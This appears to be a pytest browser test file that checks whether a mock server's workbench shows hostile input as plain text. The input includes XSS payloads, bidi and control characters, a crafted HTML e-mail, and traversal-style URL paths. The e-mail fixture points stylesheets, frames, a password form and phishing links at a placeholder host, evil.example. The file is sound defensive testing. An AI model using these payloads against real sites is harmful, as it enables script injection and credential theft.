"""Texts that somebody else wrote, shown in the workbench as texts."""

from typing import Any

import pytest

from mock_server.testing.mock_server import SandboxControl
from tests.browser.driving import PANELS, Visit, expect
from tests.conftest import Client

pytestmark = [pytest.mark.slow, pytest.mark.browser]

MARKUP = "<img src=x onerror=\"window.bad='image'\"><script>window.bad='script'</script>"
TURNED = "\u202egpj.exe\u2066"
CONTROL = "a\u0007b\u001b[31mc\u009b"
FIELDS = ("sendersReference", "resourceId", "resourceAction", "conditionEndpoint")
LONG = "L" * 1_000_000
HOSTILE_MAIL = f"""<html><head>
<meta http-equiv="refresh" content="0; url=//evil.example/">
<base href="//evil.example/"><link rel="stylesheet" href="//evil.example/x.css">
<style>@import url(//evil.example/y.css); p {{ color: rgb(1, 2, 3) }}</style></head>
<body onload="parent.bad='body'"><p id="kept" style="background: url(//evil.example/z.png)">
Kept {MARKUP}</p>
<iframe src="//evil.example/frame"></iframe><object data="//evil.example/o"></object>
<form action="//evil.example/form"><input name="password"><button>Send</button></form>
<img src="//evil.example/pixel.png"><img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" alt="ok">
<a href="//evil.example/phish" target="_top" id="link">Click</a>
<a href="javascript:parent.bad='link'" id="code">Click as well</a>
<svg onload="parent.bad='svg'"><a href="//evil.example/svg"><text y="9">s</text></a></svg>
</body></html>"""


def chain(mock: SandboxControl, subject: str, body: str, content_type: str = "Plain") -> None:
    """Let *mock* send an e-mail at once."""
    settings = {"subject": subject, "body": body, "contentType": content_type}
    mock.orders.create_instant(
        recipientEmail={"emailAddress": "kari@example.com", "emailSettings": settings}
    )


@pytest.mark.parametrize("text", [MARKUP, TURNED, CONTROL, LONG], ids=["html", "bidi", "c0", "1MB"])
def test_a_hostile_text_in_every_field_of_an_order_is_shown_as_text(
    visit: Visit, empty: SandboxControl, text: str
) -> None:
    members: dict[str, Any] = dict.fromkeys(FIELDS, text)
    recipients: list[Any] = [
        {"emailAddress": text},
        {"mobileNumber": text},
        {"nationalIdentityNumber": text},
        {"externalIdentity": text},
    ]
    order = empty.orders.create(recipients=recipients, **members)
    page = visit.open(empty.control_url, f"orders/{order['id']}")
    page.get_by_role("heading", name="The order").wait_for()

    shown = page.locator("main").inner_text()
    assert page.evaluate("() => window.bad") is None
    assert page.locator("main").locator("img, script, b script").count() == 0
    assert ("onerror" in shown) is (text is MARKUP)
    assert "\u202e" not in shown
    assert "\u0007" not in shown
    assert ("U+202E" in shown) is (text is TURNED)
    assert ("␇" in shown) is (text is CONTROL)
    assert len(shown) < 20_000
    assert ("1,000,000 characters" in shown) is (text is LONG)
    assert page.evaluate("() => document.documentElement.scrollWidth") <= 1280


@pytest.mark.parametrize("text", [MARKUP, TURNED, CONTROL, LONG], ids=["html", "bidi", "c0", "1MB"])
def test_a_hostile_message_is_shown_as_text(visit: Visit, empty: SandboxControl, text: str) -> None:
    chain(empty, text, text)
    page = visit.open(empty.control_url)

    page.get_by_role("list", name="Messages", exact=True).get_by_role("link").click()
    page.get_by_role("heading", name="What became of it").wait_for()
    shown = page.locator("main").inner_text()
    assert page.evaluate("() => window.bad") is None
    assert page.locator("main").locator("img, script").count() == 0
    assert "\u202e" not in shown
    assert len(shown) < 60_000
    assert page.evaluate("() => document.documentElement.scrollWidth") <= 1280


def test_an_html_e_mail_neither_runs_nor_loads_anything(
    visit: Visit, empty: SandboxControl
) -> None:
    chain(empty, "Hostile", HOSTILE_MAIL, "Html")
    page = visit.open(empty.control_url)
    page.get_by_role("list", name="Messages", exact=True).get_by_role("link").click()
    note = page.get_by_text("Kept out, so that nothing runs or is loaded")
    note.wait_for()
    mail = page.frame_locator("iframe")

    expect(mail.locator("#kept")).to_contain_text("Kept")
    expect(mail.get_by_alt_text("ok")).to_be_attached()
    assert mail.locator("#kept").evaluate("it => getComputedStyle(it).color") == "rgb(1, 2, 3)"
    for name in ("#link", "#code"):
        mail.locator(name).click()
    mail.get_by_role("button", name="Send").click()
    assert page.evaluate("() => window.bad") is None
    assert mail.locator("script, iframe, object, link, base, meta").count() == 0
    for word in ("script", "image", "style", "frame", "form", "link"):
        expect(note).to_contain_text(word)
    assert page.url.startswith(empty.control_url)
    # The browser says that it kept to the policy: so there was something to keep to.
    assert any("Content Security Policy" in said for said in visit.complaints)
    visit.complaints.clear()


def test_hostile_requests_are_shown_as_text_in_the_journal(visit: Visit, api: Client) -> None:
    for text in (MARKUP, TURNED, LONG[:60_000]):
        headers = {"X-Odd": text.encode()} if text is not LONG[:60_000] else {}
        api.call("GET", "/orders", params={"sendersReference": MARKUP}, headers=headers)
        api.call("POST", "/orders/email", json={"subject": text, "body": text})
    page = visit.open(api.mock.control_url, "journal")

    rows = page.get_by_role("list", name="Journal", exact=True).get_by_role("link")
    expect(rows).to_have_count(6)
    for place in range(6):
        rows.nth(place).click()
        expect(page.get_by_role("region", name="Detail").get_by_text("Trace id")).to_be_visible()
        for summary in page.locator("main summary").all():
            summary.click()
        assert page.evaluate("() => window.bad") is None
        assert page.locator("main").locator("img, script").count() == 0


def test_a_hostile_register_is_shown_as_text(visit: Visit, api: Client) -> None:
    entry = {"number": MARKUP, "name": TURNED, "emails": [CONTROL, LONG[:300_000]]}
    api.mock.register.replace({"persons": [entry]})
    page = visit.open(api.mock.control_url, "register")

    expect(page.get_by_role("rowheader")).to_contain_text("onerror")
    expect(page.get_by_role("cell").first).to_contain_text("U+202E")
    assert page.evaluate("() => window.bad") is None


def test_a_hostile_address_opens_nothing_but_a_panel(visit: Visit, empty: SandboxControl) -> None:
    page = visit.page
    for address in (
        "/%3Cimg%20src=x%20onerror=alert(1)%3E",
        "/orders/%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        "/messages/..%2F..%2Freset",
        "/__proto__/x",
        "/orders/%E0%A4%A",
    ):
        page.goto("about:blank")
        page.goto(f"{empty.control_url}/#{address}")
        expect(page.get_by_role("heading", level=1)).to_be_visible()
    assert page.get_by_role("heading", level=1).inner_text() in PANELS
